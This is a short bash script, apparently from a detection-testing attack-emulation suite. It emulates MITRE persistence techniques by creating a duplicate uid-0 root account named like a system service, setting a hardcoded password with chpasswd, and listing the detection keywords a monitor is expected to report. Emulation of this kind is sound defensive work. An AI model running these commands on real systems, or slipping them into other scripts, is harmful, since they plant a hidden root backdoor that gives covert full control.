#!/bin/bash
# vigil-emulation: attack
# technique: T1136.001 Create Account: Local Account; T1098 Account Manipulation
# tactic: persistence, privilege-escalation
# what: creates a second root account with `useradd -o -u 0 -g 0` (a duplicate uid 0 named
#   like a system service) and sets its password with chpasswd; the account databases are
#   restored exactly at the end.
# report: a new account with uid 0 created by useradd -o from a shell.
# expect: uid 0|root account|account|user added|useradd|backdoor user
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_accounts_backup
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash vigil-emul-sysd
echo 'vigil-emul-sysd:Emul4tion!' | chpasswd
getent passwd vigil-emul-sysd
